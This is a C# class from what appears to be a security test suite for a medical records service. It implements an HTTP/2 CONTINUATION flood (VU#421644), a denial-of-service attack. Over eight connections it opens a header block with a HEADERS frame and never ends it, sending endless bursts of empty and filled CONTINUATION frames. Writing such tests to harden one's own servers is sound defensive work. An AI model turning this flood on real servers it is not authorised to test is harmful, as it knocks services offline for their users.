using MedRecords.Battery.Load.Http2;

namespace MedRecords.Battery.Rows.Security.Attacks;

/// <summary>A header block that never ends: CONTINUATION after CONTINUATION, empty ones too (VU#421644).</summary>
internal sealed class EndlessHeaders : IAttack
{
    private const int Connections = 8;
    private const int LiteralLength = 100;

    /// <inheritdoc/>
    public string Name => "CONTINUATION flood";

    /// <inheritdoc/>
    public Task RunAsync(Target target, CancellationToken until)
    {
        var start = target.CallOf("Charts/GetChart", target.Token);
        // A literal without indexing: name "x", value of a hundred characters.
        byte[] field = [0x00, 1, (byte)'x', LiteralLength, .. Enumerable.Repeat((byte)'a', LiteralLength)];
        var full = HostileConnection.FrameOf(FrameType.Continuation, FrameFlags.None, 1, [.. Enumerable.Repeat(field, 10).SelectMany(bytes => bytes)]);
        var empty = HostileConnection.FrameOf(FrameType.Continuation, FrameFlags.None, 1, []);
        byte[] burst = [.. Enumerable.Repeat(empty, 200).SelectMany(bytes => bytes)];
        return Attackers.RunAsync(Connections, target, until, async (connection, round) =>
        {
            if (round == 0)
                await connection.SendAsync(HostileConnection.FrameOf(FrameType.Headers, FrameFlags.None, 1, start), until);
            await connection.SendAsync(round % 10 == 9 ? full : burst, until);
            target.Hit(round % 10 == 9 ? 1 : 200);
        });
    }
}
